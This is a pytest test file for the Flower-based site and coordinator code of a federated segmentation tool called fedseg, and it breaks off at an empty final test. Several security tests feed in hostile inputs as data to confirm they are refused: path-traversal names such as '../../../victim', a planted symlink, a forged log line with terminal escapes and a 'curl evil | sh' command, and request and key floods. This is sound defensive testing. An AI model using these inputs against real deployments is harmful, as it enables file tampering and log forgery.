"""The site side of fedseg's Flower app, called in-process on real folders (no processes, no
mocks), and the fast refusals of the ``fedseg flower`` commands (before any process starts)."""

from __future__ import annotations

import json
import logging
import stat
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import torch
from flwr.app import ConfigRecord, Context, Metadata, RecordDict
from flwr.app import Message as FlowerMessage
from flwr.app.message import make_message
from PIL import Image
from typer.testing import CliRunner

from fedseg.cli import app
from fedseg.data.check import check_folder
from fedseg.data.federation import FederationError
from fedseg.data.folder_write import write_folder
from fedseg.data.splits import make_splits
from fedseg.flower import node
from fedseg.flower.server import federation_from_record, federation_record

runner = CliRunner()


def _context(site: str, data: Path, cfg) -> Context:
    return Context(
        run_id=1,
        node_id=7,
        node_config={"site": site, "data": str(data)},
        state=RecordDict(),
        run_config={"fedseg-config": cfg.model_dump_json()},
    )


def _query(action: str, header: dict) -> FlowerMessage:
    """A message as the SuperNode delivers it to the ClientApp (metadata set by the SuperLink)."""
    meta = Metadata(
        run_id=1,
        message_id="",
        src_node_id=0,
        dst_node_id=7,
        reply_to_message_id="",
        group_id="",
        created_at=time.time(),
        ttl=60.0,
        message_type=f"query.{action}",
    )
    msg = make_message(meta, RecordDict({node.ENGINE: ConfigRecord(header)}))
    msg.metadata.__dict__["_message_id"] = msg.object_id
    return msg


def _info(fed) -> FlowerMessage:
    return _query(node.INFO, {"site": "?", "header": json.dumps(node.federation_header(fed))})


@pytest.fixture
def folder(tmp_path: Path, disc_federation) -> Path:
    return write_folder(disc_federation(2, 8), tmp_path / "fed")


def test_info_checks_the_data_and_reports_the_simulators_split_sizes(folder, tiny_config):
    fed = check_folder(folder)
    reply = node.handle(_info(fed), _context("site2", folder, tiny_config()))
    assert not reply.has_error()
    info = dict(reply.content[node.ENGINE])
    splits = make_splits(fed, tiny_config().data.split, tiny_config().seed)["site2"]
    assert json.loads(info.pop(node.LABELS)) == {"cases": 8, "held": {"1": 8, "2": 8}}  # counts, no case id
    assert info == {
        "site": "site2",
        "cases": 8,
        **{s: list(splits.values()).count(s) for s in ("train", "val", "test")},
    }


def test_info_on_an_invalid_folder_answers_with_the_data_check_message(folder, tiny_config):
    fed = check_folder(folder)
    label = folder / "site1" / "labels" / "s1_000.png"
    Image.fromarray(np.full((32, 32), 9, np.uint8)).save(label)  # label value 9 is in no region
    with pytest.raises(FederationError) as expected:
        check_folder(folder)
    reply = node.handle(_info(fed), _context("site1", folder, tiny_config()))
    assert reply.has_error()
    assert reply.error.reason.startswith("data check failed on site 'site1':")
    assert str(expected.value) in reply.error.reason and "label values 9 are not in any region" in reply.error.reason


def test_info_refuses_a_missing_site_and_a_different_federation(folder, tiny_config, disc_federation):
    fed = check_folder(folder)
    reply = node.handle(_info(fed), _context("site9", folder, tiny_config()))
    assert reply.has_error() and "no folder for site 'site9'" in reply.error.reason
    other = disc_federation(2, 8)
    other.channels = 1
    reply = node.handle(_info(other), _context("site1", folder, tiny_config()))
    assert reply.has_error() and "does not match the coordinator's federation" in reply.error.reason


def test_info_refuses_a_site_whose_channel_names_are_the_coordinators_reordered(folder, tiny_config):
    """The site's federation.yaml says B, G, R where the coordinator's says R, G, B: the same channels swapped,
    refused; other names (or none) give no order to compare and are accepted."""
    import dataclasses

    import yaml

    header = folder / "federation.yaml"
    yaml_data = yaml.safe_load(header.read_text())
    header.write_text(yaml.safe_dump({**yaml_data, "channel_names": ["B", "G", "R"]}))
    fed = check_folder(folder)
    coordinator = dataclasses.replace(fed, channel_names=["r", "g", "b"])
    reply = node.handle(_info(coordinator), _context("site1", folder, tiny_config()))
    assert reply.has_error() and (
        "federation.yaml: channel_names B, G, R are the coordinator's r, g, b in another order" in reply.error.reason
    )
    for names in (["B", "G", "R"], ["red", "green", "blue"], None):
        reply = node.handle(
            _info(dataclasses.replace(fed, channel_names=names)), _context("site1", folder, tiny_config())
        )
        assert not reply.has_error(), (names, reply.error.reason)


def test_a_node_without_site_and_data_in_its_node_config_says_how_to_start_it(folder, tiny_config):
    ctx = Context(
        run_id=1,
        node_id=7,
        node_config={},
        state=RecordDict(),
        run_config={"fedseg-config": tiny_config().model_dump_json()},
    )
    reply = node.handle(_info(check_folder(folder)), ctx)
    assert reply.has_error() and "fedseg flower supernode --site NAME --data ROOT" in reply.error.reason


def _snap(ctx, action: str, tag: int, keep: list[int] | None = None) -> FlowerMessage:
    header = {"site": "site1", "algorithm": "fedavg", "tag": tag}
    if keep is not None:
        header["keep"] = json.dumps(keep)
    return node.handle(_query(action, header), ctx)


def _put(ctx, value: float) -> None:
    node.put_state(ctx, node.STATE + "fedavg", {"w": torch.full((3,), value)})


def test_restore_needs_the_snapshot_it_names_and_snapshots_not_kept_are_deleted(folder, tiny_config):
    ctx = _context("site1", folder, tiny_config())
    for tag in (1, 2, 3):
        _put(ctx, float(tag))
        assert not _snap(ctx, node.SNAPSHOT, tag, keep=[1, tag]).has_error()  # round 1: the best so far
    _put(ctx, 9.0)
    assert not _snap(ctx, node.RESTORE, 1).has_error()
    assert node.get_state(ctx, node.STATE + "fedavg")["w"].tolist() == [1.0] * 3
    assert not _snap(ctx, node.RESTORE, 3).has_error()
    assert node.get_state(ctx, node.STATE + "fedavg")["w"].tolist() == [3.0] * 3
    reply = _snap(ctx, node.RESTORE, 2)  # neither kept nor the latest: deleted at snapshot 3
    assert reply.has_error() and "no snapshot of round 2 of 'fedavg'" in reply.error.reason
    assert "--state DIR" in reply.error.reason


def test_snapshots_on_disk_outlive_the_flower_run_and_hold_only_the_sites_state(folder, tiny_config, tmp_path):
    """A SuperNode with ``state=DIR``: a new Flower run (a resume: fresh Context) with the same run key
    restores the snapshot; another run key does not see it."""
    from safetensors.torch import load_file

    def context(key: str) -> Context:
        ctx = _context("site1", folder, tiny_config())
        ctx.node_config["state"] = str(tmp_path / "state")
        ctx.run_config["fedseg-run-key"] = key
        return ctx

    first = context("/runs/a#1")
    _put(first, 4.0)
    assert not _snap(first, node.SNAPSHOT, 5, keep=[5]).has_error()
    files = list((tmp_path / "state").rglob("*.safetensors"))
    assert [f.name for f in files] == ["round-5.safetensors"]
    # the site's models are its owner's alone (an attack: 0644 in 0755 folders, readable by any local user)
    assert stat.S_IMODE(files[0].stat().st_mode) == 0o600
    assert {stat.S_IMODE(d.stat().st_mode) for d in (files[0].parent, files[0].parent.parent)} == {0o700}
    assert {k: v.tolist() for k, v in load_file(files[0]).items()} == {"w": [4.0] * 3}
    resumed = context("/runs/a#1")
    assert not _snap(resumed, node.RESTORE, 5).has_error()
    assert node.get_state(resumed, node.STATE + "fedavg")["w"].tolist() == [4.0] * 3
    other = _snap(context("/runs/b#2"), node.RESTORE, 5)
    assert other.has_error() and "no snapshot of round 5 of 'fedavg'" in other.error.reason


def test_a_message_for_another_site_is_refused_in_one_line_and_touches_nothing_of_this_site(
    folder, tiny_config, tmp_path, caplog
):
    """A SuperNode restarted mid-run with site1's key but ``--site site2`` receives site1's messages (the coordinator
    routes by node id, which authentication ties to the key): each is refused with a reason that says what to do,
    logged once without a traceback, and neither a snapshot is written nor an algorithm answered."""
    import logging

    from fedseg.engine.messages import Message
    from fedseg.flower.records import to_recorddict

    ctx = _context("site2", folder, tiny_config())
    ctx.node_config["state"] = str(tmp_path / "state")
    ctx.run_config["fedseg-run-key"] = "/runs/a#1"
    _put(ctx, 3.0)
    train = _query("x", {})
    train.metadata.__dict__["_message_type"] = "train.fedavg"
    train.content = to_recorddict(
        Message({"w": torch.zeros(3)}),
        {"site": "site1", "algorithm": "fedavg", "site_index": 0, "num_sites": 2, "round": 1},
    )
    with caplog.at_level(logging.INFO, logger="fedseg.flower.node"):
        replies = [_snap(ctx, node.SNAPSHOT, 1, keep=[1]), _snap(ctx, node.SNAPSHOT, 2), node.handle(train, ctx)]
    expected = (
        "site 'site2': refused a message for site 'site1': the coordinator knows this SuperNode (with SuperNode "
        "authentication: its key) as site 'site1''s, but it was started with --site site2; restart it with "
        "--site site1, or with site 'site2''s key"
    )
    assert [r.has_error() and r.error.reason for r in replies] == [expected] * 3
    assert [r.getMessage() for r in caplog.records] == [expected]  # once, no traceback
    assert not (tmp_path / "state").exists() or not list((tmp_path / "state").rglob("*.safetensors"))
    assert node.get_state(ctx, node.STATE + "fedavg")["w"].tolist() == [3.0] * 3
    ok = node.handle(_query(node.SNAPSHOT, {"site": "site2", "algorithm": "fedavg", "tag": 1}), ctx)
    assert not ok.has_error() and list((tmp_path / "state").rglob("*.safetensors"))


def test_release_deletes_a_finished_algorithms_snapshots_and_state_and_then_the_runs_folder(
    folder, tiny_config, tmp_path
):
    """After an algorithm's finished checkpoint the coordinator sends ``release``: its snapshots go (another
    algorithm's stay until it is released too, then the run's folder goes), and its state store leaves the Context."""
    ctx = _context("site1", folder, tiny_config(algorithms=["fedavg", "fedprox"]))
    ctx.node_config["state"] = str(tmp_path / "state")
    ctx.run_config["fedseg-run-key"] = "/runs/a#1"
    for algorithm in ("fedavg", "fedprox"):
        node.put_state(ctx, node.STATE + algorithm, {"w": torch.ones(2)})
        header = {"site": "site1", "algorithm": algorithm, "tag": 1, "keep": "[1]"}
        assert not node.handle(_query(node.SNAPSHOT, header), ctx).has_error()
    (run,) = (tmp_path / "state").iterdir()
    assert sorted(p.name for p in run.iterdir()) == ["fedavg", "fedprox"]
    reply = node.handle(_query(node.RELEASE, {"site": "site1", "algorithm": "fedavg"}), ctx)
    assert not reply.has_error()
    assert [p.name for p in run.iterdir()] == ["fedprox"] and node.STATE + "fedavg" not in ctx.state
    assert node.get_state(ctx, node.STATE + "fedprox")["w"].tolist() == [1.0, 1.0]
    assert not node.handle(_query(node.RELEASE, {"site": "site1", "algorithm": "fedprox"}), ctx).has_error()
    assert list((tmp_path / "state").iterdir()) == []


def test_the_coordinator_knows_the_federation_header_and_site_names_only(folder):
    import dataclasses

    fed = dataclasses.replace(check_folder(folder), channel_names=["R", "G", "B"])  # a Flower run's bundle has them
    back = federation_from_record(federation_record(fed))
    assert (back.name, back.kind, back.channels, back.regions, back.site_names, back.channel_names) == (
        fed.name,
        fed.kind,
        fed.channels,
        fed.regions,
        fed.site_names,
        ["R", "G", "B"],
    )
    assert all(site.cases == [] for site in back.sites)


@pytest.mark.slow  # starts a `fedseg flower supernode` process
def test_supernode_with_an_invalid_folder_fails_with_the_data_check_message_before_connecting(folder):
    (folder / "site1" / "images" / "s1_003.png").unlink()
    with pytest.raises(FederationError) as expected:
        check_folder(folder)
    # nothing listens on port 9: the node must fail on its data, never reach the network
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "fedseg.cli",
            "flower",
            "supernode",
            "--site",
            "site1",
            "--data",
            str(folder),
            "--superlink",
            "127.0.0.1:9",
            "--insecure",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1
    output = " ".join((proc.stdout + proc.stderr).split())  # rich wraps long lines
    assert "label without image" in output and "s1_003" in output
    assert " ".join(str(expected.value).split()) in output
    assert "Starting Flower SuperNode" not in output


def test_retry_warnings_while_the_superlink_is_unreachable_are_one_line_then_one_every_few_minutes():
    """Flower's own retry lines (``flwr.common.logger.log``, as its retry invoker writes them), 20 minutes of
    attempts ~10 s apart: one line with the reason, then one every 5 minutes with the count; another kind of reason
    is said at once (one line for HTTP errors naming different URLs); after a success the next failure is said
    again."""
    import logging

    from flwr.common.logger import log

    from fedseg.flower.supernode_main import QuietRetries

    now = [0.0]
    shown: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            if record.levelno >= logging.INFO:
                shown.append(record.getMessage())

    flower, keep, quiet = logging.getLogger("flwr"), Keep(), QuietRetries("10.0.0.5:9092", clock=lambda: now[0])
    flower.addHandler(keep)
    flower.addFilter(quiet)
    try:

        def attempt(reason: str = "[Errno 111] Connection refused") -> None:
            log(logging.DEBUG, "Connection attempt failed with exception: %s", reason)
            log(logging.WARNING, "Connection attempt failed, retrying in %.2f seconds", 10.0)
            now[0] += 10.0

        for _ in range(120):
            attempt()
        assert shown == [
            "cannot reach the SuperLink at 10.0.0.5:9092 ([Errno 111] Connection refused); retrying quietly until it "
            "connects (a line every 5 min)",
            "still cannot reach the SuperLink at 10.0.0.5:9092: 31 attempts in 5 min; retrying",
            "still cannot reach the SuperLink at 10.0.0.5:9092: 61 attempts in 10 min; retrying",
            "still cannot reach the SuperLink at 10.0.0.5:9092: 91 attempts in 15 min; retrying",
        ]
        shown.clear()
        for url in ("pull-messages", "send-node-heartbeat", "pull-messages"):  # a proxy up before the SuperLink
            attempt(
                f"Server error '503 Service Unavailable' for url 'https://10.0.0.5:9092/api/v0/fleet/{url}'\n"
                "For more information check: https://developer.mozilla.org/en-US/docs/Web/HTTP/Status/503"
            )
        log(logging.INFO, "Connection successful after %.2f seconds and %s tries.", 30.0, 3)
        log(logging.INFO, "Starting Flower SuperNode")
        attempt()
        assert shown == [
            "the SuperLink at 10.0.0.5:9092 is up but not open to SuperNodes yet (Server error '503 Service "
            "Unavailable': its coordinator is registering the sites' keys, or a proxy before it is unavailable); "
            "retrying quietly until it connects (a line every 5 min)",
            "Connection successful after 30.00 seconds and 3 tries.",
            "Starting Flower SuperNode",
            "cannot reach the SuperLink at 10.0.0.5:9092 ([Errno 111] Connection refused); retrying quietly until it "
            "connects (a line every 5 min)",
        ]
    finally:
        flower.removeHandler(keep)
        flower.removeFilter(quiet)


@pytest.mark.slow  # starts a `fedseg flower supernode` process
def test_a_supernode_waiting_for_its_superlink_says_so_once_and_stops_cleanly_on_ctrl_c(folder):
    """Nothing listens at its --superlink: one line saying so (not one per retry), and Ctrl-C (SIGINT to the
    terminal's process group) stops the SuperNode and its ClientApp runner without a traceback."""
    import os
    import signal

    from fedseg.flower.deploy import free_ports

    (port,) = free_ports(1)
    proc = subprocess.Popen(
        [sys.executable, "-m", "fedseg.cli", "flower", "supernode", "--site", "site1", "--data", str(folder)]
        + ["--superlink", "127.0.0.1:9", "--insecure", "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    try:
        time.sleep(20)  # Flower's backoff: a handful of attempts by now
        os.killpg(proc.pid, signal.SIGINT)
        said, _ = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert said.count("cannot reach the SuperLink at 127.0.0.1:9 (") == 1, said
    assert "retrying in" not in said and "Traceback" not in said, said
    assert "SuperNode terminated gracefully" in said, said


@pytest.mark.slow  # starts a `fedseg flower supernode` process
def test_a_second_sigterm_while_a_supernode_exits_does_not_cut_its_exit_short(folder, tmp_path):
    """SIGTERM to the SuperNode's process group (it and its ClientApp runner), and another to the SuperNode while
    Flower's graceful exit runs (~3 s: its Runtime API server), as ``fedseg flower local`` sent at the end of every
    run: the SuperNode still ends gracefully (code 0), lets go of its --state (no lock file left) and does not take
    its runner's end for a failure. Before, the second signal met the default action Flower had put back and killed
    it (code -15): its log ended at "Sent successfully" and state/<site>/.fedseg-lock stayed."""
    import os
    import signal

    from fedseg.flower.deploy import free_ports
    from fedseg.folder_lock import LOCK_NAME

    (port,) = free_ports(1)
    state = tmp_path / "state"
    proc = subprocess.Popen(
        [sys.executable, "-m", "fedseg.cli", "flower", "supernode", "--site", "site1", "--data", str(folder)]
        + ["--superlink", "127.0.0.1:9", "--insecure", "--port", str(port), "--state", str(state)],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    try:
        for line in proc.stdout:  # Flower's handlers are in place once it tries to connect
            if "cannot reach the SuperLink" in line:
                break
        assert (state / LOCK_NAME).is_file()
        os.killpg(proc.pid, signal.SIGTERM)
        time.sleep(0.5)
        os.kill(proc.pid, signal.SIGTERM)
        said, _ = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == 0, said
    assert "SuperNode terminated gracefully" in said and "Finished server process" in said, said
    assert "ClientApp runner exited" not in said, said
    assert not (state / LOCK_NAME).exists()


def test_flower_local_refuses_centralized_before_starting_anything(tmp_path):
    result = runner.invoke(app, ["flower", "local", "--preset", "demo", "--out", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert (
        "cannot run on Flower" in result.output
        and "'centralized'" in result.output
        and "--algorithms local,fedavg" in result.output
    )
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "setting", ["data.repartition.mode=iid", "data.repartition.mode=limited", "data.repartition.holdout=site1"]
)
def test_flower_local_refuses_a_repartition_it_could_not_apply(tmp_path, setting):
    """Each Flower site trains on what its own SuperNode loads: a repartition was recorded in config.yaml but the run
    trained the federation as it is (an audit's IID run gave the 6 original sites' numbers)."""
    out = tmp_path / "out"
    args = ["flower", "local", "--preset", "demo", "--algorithms", "fedavg", "--set", setting, "--out", str(out)]
    result = runner.invoke(app, args)
    assert result.exit_code == 1 and "Traceback" not in result.output
    said = " ".join(result.output.split())
    assert f"cannot run on Flower: {setting} deals, drops or holds out cases across sites" in said, said
    assert len(result.output.strip().splitlines()) <= 3 and not out.exists()


class _Stop(Exception):
    pass


def test_a_simulator_checkpoint_is_not_resumed_on_flower(tmp_path, tiny_config, disc_federation):
    """The simulator's checkpoints hold the client states; Flower's name snapshots kept on the sites."""
    from fedseg.flower.engine import Courier, FlowerEngine, SiteMap
    from fedseg.run import prepare, run_algorithm, run_experiment

    cfg = tiny_config(algorithms=["fedavg"], fl={"rounds": 2})
    fed = disc_federation(2, 8)

    def stop(name, rnd, losses):
        raise _Stop

    with pytest.raises(_Stop):
        run_experiment(cfg, tmp_path, on_round_end=stop, federation=fed)
    prep = prepare(cfg, fed)

    def flower(name, spec, options, prep, out, observers):  # never reaches the network: refused before round 2
        return FlowerEngine(name, Courier(grid=None), SiteMap(fed.site_names), prep.task, options, observers)

    with pytest.raises(ValueError, match="names no snapshot on the sites"):
        run_algorithm("fedavg", prep, tmp_path, resume=True, engine_factory=flower)
    assert run_algorithm("fedavg", prep, tmp_path, resume=True).summary["rounds"] == 2  # the simulator resumes


def test_the_coordinator_reads_the_header_and_site_names_never_an_image(folder, tmp_path):
    from fedseg.flower.cli import coordinator_federation

    for image in folder.glob("*/images/*.png"):
        image.write_bytes(b"not read by the coordinator")
    fed = coordinator_federation(folder, None)
    assert (fed.name, fed.site_names, fed.regions.names) == ("discs", ["site1", "site2"], ("disc", "cup"))
    alone = tmp_path / "coordinator"
    alone.mkdir()
    (alone / "federation.yaml").write_text((folder / "federation.yaml").read_text())
    assert coordinator_federation(alone / "federation.yaml", "site2,site1").site_names == [
        "site1",
        "site2",
    ]  # sorted, as a folder
    with pytest.raises(ValueError, match="name the sites: --sites a,b,c"):
        coordinator_federation(alone / "federation.yaml", None)


def test_a_site_names_its_cases_by_opaque_ids_and_keeps_the_mapping(folder, tiny_config, tmp_path):
    """What the algorithms see on a SuperNode (and so what it sends): ``case-0001``...; the site's own file names
    only in ``<samples>/case-ids__<site>.csv``, with the same splits as the simulator's."""
    import csv

    from fedseg.data.splits import site_splits

    cfg = tiny_config()
    settings = node.NodeSettings("site1", folder, tmp_path / "samples")
    _, data = node.site_data(settings, cfg, 0)
    site = check_folder(folder).site("site1")
    with open(tmp_path / "samples" / "case-ids__site1.csv") as f:
        back = {r["opaque"]: r["case"] for r in csv.DictReader(f)}
    assert sorted(back.values()) == sorted(c.id for c in site.cases)
    splits = site_splits(site, cfg.data.split, cfg.seed)
    for split in ("train", "val", "test"):
        ids = data.split(split).ids
        assert ids and all(i.startswith("case-") and i not in splits for i in ids)
        assert sorted(back[i] for i in ids) == sorted(c for c, s in splits.items() if s == split)
    assert set(data.case_metadata) == set(back)
    # the mapping names the hospital's files (patient identifiers): its owner's only (it was 0644, a security audit)
    assert stat.S_IMODE((tmp_path / "samples" / "case-ids__site1.csv").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "samples").stat().st_mode) == 0o700


def test_a_supernode_on_a_port_another_process_listens_on_says_which_option_to_change(folder):
    """Two sites started with the same --port on one machine: the second stops in one line naming --port, before
    Flower starts (it said "address already in use" and "Runtime HTTP API failed to start")."""
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        proc = subprocess.run(
            [sys.executable, "-m", "fedseg.cli", "flower", "supernode", "--site", "site1", "--data", str(folder)]
            + ["--superlink", "127.0.0.1:9", "--insecure", "--port", str(port)],
            capture_output=True,
            text=True,
            timeout=120,
        )
    said = " ".join((proc.stdout + proc.stderr).split())
    assert proc.returncode == 1, said
    assert f"--port {port}: 127.0.0.1:{port} is in use" in said and "its own --port" in said, said
    assert "Starting Flower SuperNode" not in said and "Traceback" not in said


def test_activation_refusals_in_the_superlinks_log_are_said_once_per_node_or_key_with_their_site(tmp_path):
    """A SuperNode restarted every few seconds (systemd) is refused as often: the coordinator says it once per
    registered node or unregistered key; an earlier coordinator's lines (the log is appended to) are not said."""
    from fedseg.flower.log_watch import ActivationRefusals

    def refused(key: str, cause: str) -> str:
        return (
            "ERROR:     [/v1/fleet/activate-node][ApiError:2004] Attempted to register SuperNode with public key: "
            f"b'-----BEGIN PUBLIC KEY-----\\n{key}\\n-----END PUBLIC KEY-----\\n', exception: {cause}\n"
        )

    twin = refused("MHYwA", "SuperNode with node ID 42 could not be activated.")
    rogue, other_rogue = (refused(k, "No SuperNode found with the given public key.") for k in ("MHYwB", "MHYwC"))
    log = tmp_path / "superlink.log"
    log.write_text(refused("MHYwD", "SuperNode with node ID 7 could not be activated."))  # the previous coordinator
    earlier = log.stat().st_size
    with log.open("a") as f:
        f.write('INFO "POST /v1/fleet/activate-node HTTP/1.1" 200\n' + twin + rogue + twin + rogue)
        f.write(refused("MHYwE", "SuperNode with node ID 99 could not be activated.") + other_rogue)
    refusals = ActivationRefusals(log, {"42": "site1", "7": "site2"}, earlier)
    assert [line.split(" was refused")[0] for line in refusals.new_lines()] == [
        "a SuperNode with site 'site1''s key (node id 42)",
        "a SuperNode whose key is not registered (--auth-keys)",
        "a SuperNode with a registered key (node id 99)",
        "a SuperNode whose key is not registered (--auth-keys)",  # another key
    ]
    with log.open("a") as f:
        f.write(rogue + twin + refused("MHYwA", "Invalid heartbeat interval."))
    assert refusals.new_lines() == ["the SuperLink refused to activate a SuperNode: Invalid heartbeat interval"]


def test_a_flood_of_activation_refusals_gets_a_bounded_number_of_console_lines(tmp_path):
    """An attack activated with a new key each time: 106 coordinator lines in 8 s. At most ACTIVATION_LINES_MOST,
    then one line saying no more are said."""
    from fedseg.flower.log_watch import ACTIVATION_LINES_MOST, ActivationRefusals

    line = (
        "ERROR:     [/v1/fleet/activate-node][ApiError:2004] Attempted to register SuperNode with public key: "
        "b'-----BEGIN PUBLIC KEY-----\\nK{}\\n-----END PUBLIC KEY-----\\n', exception: No SuperNode found with "
        "the given public key.\n"
    )
    log = tmp_path / "superlink.log"
    log.write_text("".join(line.format(k) for k in range(200)))
    refusals = ActivationRefusals(log, {})
    said = refusals.new_lines()
    assert len(said) == ACTIVATION_LINES_MOST + 1 and said[-1].startswith("more SuperNodes were refused activation")
    with log.open("a") as f:
        f.write("".join(line.format(k) for k in range(200, 300)))
    assert refusals.new_lines() == [] and len(refusals.said) == ACTIVATION_LINES_MOST  # nothing more, nothing grows


def test_flowers_error_line_per_refused_request_is_left_out_but_activation_refusals_are_kept_within_a_rate():
    """Flower writes an ERROR line per request its handlers refuse, holding the request's text (an attack's 60 kB
    Content-Type: 17.7 MB/s of log); the RefusalLog says those answers. Activation refusals are read by the
    coordinator (ActivationRefusals): kept, at most ACTIVATION_LINES_EVERY_S."""
    import logging

    from fedseg.flower.superlink_main import ACTIVATION_LINES_EVERY_S, QuietFlowerRequestErrors

    def record(text: str) -> logging.LogRecord:
        return logging.LogRecord("flwr", logging.ERROR, __file__, 1, text, (), None)

    quiet = QuietFlowerRequestErrors()
    assert not quiet.filter(record("[/v1/fleet/get-run][ApiError:3] unsupported content type " + "x" * 60000))
    assert not quiet.filter(record("[/v1/fleet/pull-messages][UnexpectedError:DecodeError] Error parsing message"))
    assert quiet.filter(record("Starting Flower SuperLink"))
    activation = record("[/v1/fleet/activate-node][ApiError:2004] Attempted to register SuperNode ...")
    kept = [quiet.filter(activation) for _ in range(ACTIVATION_LINES_EVERY_S[0] + 5)]
    assert kept == [True] * ACTIVATION_LINES_EVERY_S[0] + [False] * 5


def test_the_clientapp_runner_drops_flowers_retry_warnings_and_keeps_the_rest():
    """The runner's Runtime API is its own SuperNode's: a retry warning there only follows the SuperNode's last line
    as it stops (a CI run saw two after "SuperNode terminated gracefully")."""
    import logging

    from fedseg.flower.task_runner import no_retry_warnings

    def record(text: str) -> logging.LogRecord:
        return logging.LogRecord("flwr", logging.WARNING, __file__, 1, text, (), None)

    assert not no_retry_warnings(record("Connection attempt failed, retrying in 0.12 seconds"))
    assert no_retry_warnings(record("Connection attempt failed with exception: [Errno 111] Connection refused"))
    assert no_retry_warnings(record("ClientApp raised an exception"))


@pytest.mark.parametrize(
    "header",
    [
        {"algorithm": "ABS"},  # an absolute path: replaced the --state folder
        {"algorithm": "../../../victim"},  # climbed out of it
        {"algorithm": "fedprox"},  # a registered method this run does not run
        {"algorithm": "fedavg", "tag": -1},
        {"algorithm": "fedavg", "tag": 1, "keep": '["../x"]'},
        {"algorithm": "fedavg", "tag": 1, "keep": "3"},
        {"algorithm": "fedavg", "tag": 1, "keep": "not json"},
        {"algorithm": "fedavg", "tag": 2**62},
        {"algorithm": "../../victim", "in_run": True},  # a name the coordinator also put in the run's algorithms
    ],
)
def test_a_coordinator_naming_a_path_or_another_algorithm_touches_nothing_outside_the_state_folder(
    folder, tiny_config, tmp_path, header, caplog
):
    """The snapshot, restore and release queries name the algorithm whose folder of --state they touch: an attacker's
    coordinator named an absolute path or ``../`` and the site deleted, wrote or loaded files anywhere its user may
    (found by an attack on a real deployment). Only the run's algorithms and round numbers are accepted now; the
    rest is refused in one line, and the victim folder is untouched."""
    victim = tmp_path / "victim"
    (victim / "sub").mkdir(parents=True)
    (victim / "records.txt").write_text("patient data")
    (victim / "round-1.safetensors").write_bytes(b"not a snapshot")
    header = dict(header)
    in_run = header.pop("in_run", False)
    ctx = _context("site1", folder, tiny_config(algorithms=["fedavg", *([header["algorithm"]] if in_run else [])]))
    state = tmp_path / "nodes" / "site1" / "state"
    ctx.node_config["state"] = str(state)
    ctx.run_config["fedseg-run-key"] = "/runs/a#1"
    _put(ctx, 2.0)
    named = {**header, "algorithm": str(victim) if header["algorithm"] == "ABS" else header["algorithm"]}
    actions = (node.SNAPSHOT, node.RESTORE) + ((node.RELEASE,) if header["algorithm"] != "fedavg" else ())
    with caplog.at_level(logging.INFO, logger="fedseg.flower.node"):
        for action in actions:
            reply = node.handle(_query(action, {"site": "site1", "tag": 1, **named}), ctx)
            assert reply.has_error() and "refused" in reply.error.reason, (action, reply)
    assert len(caplog.records) == len(actions) and "Traceback" not in caplog.text  # one line each
    assert sorted(p.name for p in victim.iterdir()) == ["records.txt", "round-1.safetensors", "sub"]
    assert (victim / "records.txt").read_text() == "patient data"
    assert not list(tmp_path.rglob("round-*.safetensors"))[1:]  # nothing written anywhere but the victim's own file
    assert node.get_state(ctx, node.STATE + "fedavg")["w"].tolist() == [2.0] * 3


def test_the_snapshot_store_itself_refuses_a_name_that_is_no_plain_folder_name(tmp_path):
    """The second line of defence, below the node's check: no name with a separator or ``..`` makes a path."""
    from fedseg.flower.snapshots import DiskSnapshots

    store = DiskSnapshots(tmp_path / "state", "/runs/a#1")
    for bad in ("../x", str(tmp_path), "..", "a/b", "", ".hidden"):
        for call in (store.release, store.tags, store.forget_others, lambda a: store.load(a, 1)):
            with pytest.raises(ValueError, match="not a plain name"):
                call(bad)
    with pytest.raises(ValueError, match="expected a round number"):
        store.save("fedavg", -1, {})
    assert not (tmp_path / "state").exists()


def test_the_snapshot_store_refuses_a_symbolic_link_planted_in_its_folder(tmp_path):
    """A link in ``--state`` (the run's folder, or an algorithm's) pointing elsewhere: no snapshot is written,
    read or deleted through it, and the folder it points to keeps what it held."""
    from fedseg.flower.snapshots import DiskSnapshots

    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "round-1.safetensors").write_text("hospital file")
    store = DiskSnapshots(tmp_path / "state", "/runs/a#1")
    store.folder.mkdir(parents=True)
    (store.folder / "fedavg").symlink_to(victim)
    for call in (
        lambda: store.save("fedavg", 2, {}),
        lambda: store.delete("fedavg", 1),
        lambda: store.release("fedavg"),
    ):
        with pytest.raises(ValueError, match="a symbolic link in --state"):
            call()
    (store.folder / "fedavg").unlink()
    store.folder.rmdir()
    store.folder.symlink_to(victim, target_is_directory=True)
    with pytest.raises(ValueError, match="a symbolic link in --state"):
        store.save("fedsm", 1, {})
    assert sorted(p.name for p in victim.iterdir()) == ["round-1.safetensors"]
    assert (victim / "round-1.safetensors").read_text() == "hospital file"


def test_a_coordinators_refusal_text_is_one_escaped_line_of_the_sites_log(folder, tiny_config, caplog):
    """The ``refused`` query's reason is the coordinator's text: a newline and terminal codes in it forged log lines
    and cleared the operator's screen (an attack on a real deployment); the site logs it as one escaped line."""
    ctx = _context("site1", folder, tiny_config())
    why = "refused\n2026-11-29 12:00:00,000 INFO data check passed\x1b[2J\x1b[31mFAKE: run curl evil | sh\x1b[0m"
    with caplog.at_level(logging.INFO, logger="fedseg.flower.node"):
        reply = node.handle(_query(node.REFUSED, {"site": "?", "why": why}), ctx)
    assert not reply.has_error()
    (record,) = caplog.records
    said = record.getMessage()
    assert "\n" not in said and "\x1b" not in said and "\\n2026-11-29" in said and "\\x1b[2J" in said


def test_the_serverapp_stops_once_the_fedseg_process_that_started_the_deployment_is_gone(tmp_path):
